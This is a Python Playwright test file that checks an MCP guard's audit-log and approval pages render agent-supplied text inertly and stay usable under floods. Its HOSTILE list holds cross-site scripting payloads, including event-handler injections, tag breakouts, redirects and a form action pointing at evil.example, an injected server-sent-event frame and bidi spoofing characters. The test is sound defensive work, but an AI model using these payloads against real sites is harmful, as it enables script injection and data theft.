"""What agents and servers write arrives while a page is open, and a script puts it there. It is as inert as what the
page came with, disturbs nobody who types or reads, and does not grow without end."""

import re
import threading
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from typing import Any, Final

import anyio
import httpx2
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.desk import signed_in, sitting, told
from tests.browser.fleet.seeding import SETTINGS, Seeding
from tests.browser.seen import Seen
from tests.patience import PATIENCE
from tests.process import Served, serving, until
from tests.simulators.http_client import HttpClient

PART: Final = '<div id="verification"'
OWN: Final = "window.owned = true"
HOSTILE: Final = (
    f"<script>{OWN}</script>",
    f"<img src=x onerror='{OWN}'>",
    f"<svg><animate onbegin='{OWN}' attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"</th></tr></tbody></table><script>{OWN}</script>",
    f"</template></noscript></style></textarea></title><img src=x onerror={OWN}>",
    f'" autofocus onfocus="{OWN}" x="',
    f"' onmouseover='{OWN}' style='position:fixed;inset:0",
    f"javascript:{OWN}",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form id=body name=body action=//evil.example><input name=attributes><button formaction=//evil.example>",
    "<a href=//evil.example id=location>look</a><link rel=stylesheet href=//evil.example>",
    "&lt;script&gt;window.owned = true&lt;/script&gt; &#x202e; {{ 7 * 7 }} {% raw %} ${window.owned = true}",
    'line\r\ndata: {"counts": {"held": 99}}\r\n\r\nevent: over\r\ndata: {}\r\n\r\n',
    "gnp\u202eexe.\u2066x\u2069\u200b\u200d\ufeff\U000e0041\x00\x1b[2J",
)
TAGS: Final = {"TR", "TD", "TH", "A", "B", "CODE", "TIME", "SPAN", "svg", "use"}
ROWS: Final = """
() => [...document.querySelectorAll("tr[data-seq]")].map((row) => {
    const told = (node) => node.nodeType === Node.TEXT_NODE ? node.data : [node.tagName,
        [...node.attributes].map((each) => `${each.name}=${each.value}`).sort(),
        node.tagName === "TIME" ? [] : [...node.childNodes].map(told)];
    return [row.dataset.seq, told(row)];
})
"""
"""Every row as it stands in the page, without what the script makes of its times."""
INERT: Final = """
() => {
    const every = [...document.querySelectorAll("tr[data-seq], tr[data-seq] *")];
    const attributes = every.flatMap((element) => [...element.attributes]);
    return {
        tags: [...new Set(every.map((element) => element.tagName))],
        handlers: attributes.filter((each) => each.name.startsWith("on") || each.name === "style").length,
        elsewhere: attributes.map((each) => [each.name, each.value]).filter(([name, value]) =>
            ["href", "src", "action", "formaction", "xlink:href"].includes(name) && !/^[/#](?![/\\\\])/.test(value)),
        hidden: every.filter((element) => /[\\p{Cf}\\p{Co}]|(?!\\n)\\p{Cc}/u.test(element.textContent)).length,
        owned: window.owned === true,
        violations: window.violations,
    };
}
"""


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, str, Seeding]]:
    folder = tmp_path_factory.mktemp("live")
    with serving(folder / "data", environ=SETTINGS) as guard:
        shown = signed_in(guard)
        seeding = Seeding(guard, folder)
        seeding.servers(("postgres-prod", "slack"))
        seeding.callers()
        yield guard, shown, seeding


@pytest.fixture
def seen(browser: Browser, seeded: tuple[Served, str, Seeding]) -> Iterator[Seen]:
    guard, shown, _ = seeded
    with sitting(browser, guard, shown) as seen:
        opened: list[str] = []
        seen.page.on("dialog", lambda dialog: opened.append(dialog.message))
        seen.page.on("popup", lambda popup: opened.append(popup.url))
        yield seen
        assert seen.complaints == []
        assert seen.page.evaluate("window.violations") == []
        assert [each for each in seen.asked if not each.startswith(guard.url + "/")] == []
        assert opened == []


def apart(work: Callable[[httpx2.AsyncClient], Awaitable[object]]) -> threading.Thread:
    """Begun in a thread of its own: the browser's driver has a loop in this one."""

    async def with_client() -> None:
        async with httpx2.AsyncClient(trust_env=False, timeout=PATIENCE) as http:
            await work(http)

    thread = threading.Thread(target=anyio.run, args=(with_client,), daemon=True)
    thread.start()
    return thread


def refused(guard: Served, names: list[str], *, at_once: int = 1) -> None:
    """Calls of tools that there are not. Each leaves two records, and has a row where the first one is."""

    async def work(http: httpx2.AsyncClient) -> None:
        async def some(mine: list[str]) -> None:
            client = HttpClient(http, guard.url + "/mcp/all", modern=False)
            await client.initialize()
            for name in mine:
                await client.call(f"slack::{name}", {})

        async with anyio.create_task_group() as tasks:
            for at in range(at_once):
                tasks.start_soon(some, names[at::at_once])

    apart(work).join()


def declared(guard: Served, token: str, why: str, client: str) -> None:
    """A call with these words of an agent, by a program of that name."""

    async def work(http: httpx2.AsyncClient) -> None:
        agent = HttpClient(http, guard.url + "/mcp", modern=False)
        agent.headers["authorization"] = f"Bearer {token}"
        agent.info = {"name": client, "version": client}
        await agent.initialize()
        await agent.call("call_tool_read", {"name": "slack:list_message", "arguments": {}, "intent_reason": why})

    apart(work).join()


def depth(guard: Served) -> int:
    return int(told(guard, "GET", "/status")["ledger"]["records"])


def newest_row(guard: Served) -> int:
    """The newest record that has a row: a call's end has none, and is not the last if the guard records more."""
    every = told(guard, "GET", "/records?order=newest&limit=20")["records"]
    return max(int(each["seq"]) for each in every if each["content"]["kind"] != "closed")


def top(page: Page) -> int:
    return int(page.locator("tr[data-seq]").first.get_attribute("data-seq") or 0)


def until_shown(page: Page, seq: int) -> None:
    expect(page.locator(f"tr[data-seq='{seq}']")).to_have_count(1)


def test_hostile_words_that_a_script_inserts_are_as_inert_as_those_of_a_page(
    seen: Seen, seeded: tuple[Served, str, Seeding]
) -> None:
    guard, _, seeding = seeded
    page = seen.page
    page.goto(guard.url + "/audit")
    expect(page.locator("[data-tail-state]")).to_have_text("Live")
    before = top(page)
    for word in HOSTILE:
        refused(guard, [word])
        declared(guard, seeding.tokens["cursor.laptop-1"], word, word)
        told(guard, "POST", "/servers/slack/disable", {"why": word})
        told(guard, "POST", "/servers/slack/enable", {"why": word})
        until_shown(page, before + 1)
        before = depth(guard)
        until_shown(page, before)
    inserted = page.evaluate(ROWS)
    found = page.evaluate(INERT)
    assert {*found["tags"]} <= TAGS
    assert (found["handlers"], found["elsewhere"], found["hidden"]) == (0, [], 0)
    assert (found["owned"], found["violations"]) == (False, [])
    assert "⟨U+202E⟩" in page.locator("[data-rows]").inner_text()
    assert page.title() == "Audit log · mcpguard"
    page.reload()
    rendered = dict(page.evaluate(ROWS))
    both = [(told, rendered[seq]) for seq, told in inserted if seq in rendered]
    assert len(both) == len(rendered) == 50
    assert all(told == again for told, again in both)


def test_nobody_who_types_or_reads_is_disturbed(seen: Seen, seeded: tuple[Served, str, Seeding]) -> None:
    guard, _, _ = seeded
    page = seen.page
    page.goto(guard.url + "/audit")
    field = page.get_by_label("Query")
    field.fill("server:slack verdict:")
    page.evaluate("document.activeElement.setSelectionRange(3, 9)")
    for name in ("first", "second"):
        refused(guard, [name])
        until_shown(page, newest_row(guard))
    expect(field).to_be_focused()
    expect(field).to_have_value("server:slack verdict:")
    assert page.evaluate("[document.activeElement.selectionStart, document.activeElement.selectionEnd]") == [3, 9]


def test_what_waits_while_it_is_paused_is_bounded(seen: Seen, seeded: tuple[Served, str, Seeding]) -> None:
    """Rows that nobody shows are kept by the page, for as long as a person is away."""
    guard, _, _ = seeded
    page = seen.page
    page.goto(guard.url + "/audit")
    page.get_by_role("button", name="Pause").click()
    standing, sent, show = top(page), 0, page.locator("[data-tail-show]")
    while sent < 480:
        refused(guard, ["x"] * 40)
        sent += 40
        # The guard may record something of its own meanwhile, so there may be more.
        until(lambda: int(re.findall(r"\d+", show.inner_text() or "0")[0]) >= sent or None, f"{sent} are counted")  # noqa: B023
    refused(guard, ["x"] * 40)
    expect(show).to_have_text(re.compile("Show more than 5.. new"))
    said, asked = show.inner_text(), [each for each in seen.asked if "/audit/rows" in each]
    refused(guard, ["x"] * 40)
    told(guard, "POST", "/servers/slack/disable", {"why": "so that a count in the rail changes"})
    told(guard, "POST", "/servers/slack/enable", {"why": "as before"})
    expect(show).to_have_text(said)
    assert [each for each in seen.asked if "/audit/rows" in each] == asked, "and asks for no more of them"
    assert top(page) == standing
    newest = newest_row(guard)
    seen.press(said)
    assert top(page) >= newest > standing


def test_a_flood_leaves_the_page_bounded_and_usable(seen: Seen, seeded: tuple[Served, str, Seeding]) -> None:
    guard, _, _ = seeded
    page = seen.page
    page.goto(guard.url + "/audit")
    rows = page.locator("tr[data-seq]")
    for _ in range(12):
        refused(guard, ["x"] * 40)
        until_shown(page, newest_row(guard))
    expect(rows).to_have_count(500)
    refused(guard, ["x"] * 5_000, at_once=8)
    expect(page.locator("[data-tail-show]")).to_contain_text("Show more than")
    expect(rows).to_have_count(500)
    page.get_by_label("Query").fill("verdict:deny")
    page.get_by_role("button", name="Pause").click()
    expect(page.locator("[data-tail-state]")).to_contain_text("Paused at")
    seen.press("Search")
    assert page.url.endswith("/audit?q=verdict%3Adeny")


@contextmanager
def waiting(guard: Served, token: str, words: str) -> Iterator[str]:
    """A call that waits for a person, with these words wherever an agent can put some; its ticket."""
    known = {each["id"] for each in held(guard)}

    async def call(http: httpx2.AsyncClient) -> None:
        agent = HttpClient(http, guard.url + "/mcp")
        agent.headers["authorization"] = f"Bearer {token}"
        given = {"name": "postgres-prod:delete_row", "arguments": {"about": words}, "intent_reason": words}
        await agent.call("call_tool_destructive", given)

    thread = apart(call)
    until(lambda: len(held(guard)) == len(known) + 1, "it waits")
    (mine,) = {each["id"] for each in held(guard)} - known
    yield mine
    if any(each["id"] == mine for each in held(guard)):
        told(guard, "POST", f"/held/{mine}/deny", {"why": "Enough was seen."})
    thread.join(PATIENCE)


def held(guard: Served) -> list[dict[str, Any]]:
    every: list[dict[str, Any]] = told(guard, "GET", "/held")["held"]
    return [each for each in every if each["state"] == "waiting"]


def executed(guard: Served) -> int:
    records = told(guard, "GET", "/records?q=tool:postgres-prod:delete_row&limit=100")["records"]
    return sum(each["content"].get("executed") == "yes" for each in records)


def test_what_is_allowed_is_the_call_that_was_shown(seen: Seen, seeded: tuple[Served, str, Seeding]) -> None:
    """The same agent asks for something else while the card is open, and the call that it shows is over by then."""
    guard, _, seeding = seeded
    page, token, before = seen.page, seeding.tokens["claude-code.build-7"], executed(guard)
    with waiting(guard, token, HOSTILE[0]) as first:
        page.goto(guard.url + "/held")
        card = page.locator("article")
        expect(card).to_have_count(1)
        expect(card).to_contain_text("<script>")
        card.get_by_label("Reason").select_option("expected")
        why = card.get_by_label("Note")
        why.fill("It is the right row.")
        with waiting(guard, token, HOSTILE[1]) as second:
            expect(page.locator("[data-count=held]")).to_have_text("2")
            expect(page.get_by_role("link", name="Show 1 new")).to_be_visible()
            expect(why).to_be_focused()
            expect(why).to_have_value("It is the right row.")
            expect(card).to_have_count(1)
            # What the page would hear of it stays on its way: the card would take no answer any more.
            page.route("**/held", lambda asked: None if asked.request.resource_type == "fetch" else asked.continue_())
            told(guard, "POST", f"/held/{first}/deny", {"why": "Somebody else was faster."})
            seen.press("Allow once")
            expect(page.get_by_role("alert")).to_be_visible()
            assert ["409" in each for each in seen.complaints] == [True], "the answer to what cannot be decided"
            seen.complaints.clear()
            assert executed(guard) == before
            assert [each["id"] for each in held(guard)] == [second], "and the other one still waits"
    assert page.evaluate("window.owned") is None


def test_a_part_that_changes_by_itself_leaves_whoever_is_at_it_alone(
    seen: Seen, seeded: tuple[Served, str, Seeding]
) -> None:
    """While a verification goes on, which takes minutes in a large log: the page says that it does for as long as this
    test wants, and is otherwise what the guard says."""
    guard, _, _ = seeded
    page, going = seen.page, True
    page.goto(guard.url + "/audit")
    seen.press("Verify now")
    expect(page.get_by_text("Integrity OK", exact=True)).to_be_visible()

    def goes_on(route: Route) -> None:
        answer = route.fetch()
        body = answer.text()
        route.fulfill(response=answer, body=body.replace(PART, f'{PART} data-again="20"') if going else body)

    page.route("**/audit/verify", goes_on)
    page.goto(guard.url + "/audit/verify")
    link = page.locator("#verification a").first
    link.focus()
    link.evaluate("(link) => { link.dataset.mine = 'yes'; }")
    for _ in range(3):
        with page.expect_response("**/audit/verify"):
            pass
    expect(page.locator("#verification a[data-mine]")).to_be_focused()
    link.evaluate("(link) => link.blur()")
    expect(page.locator("#verification a[data-mine]")).to_have_count(0)
    going = False
    expect(page.locator("#verification[data-again]")).to_have_count(0)
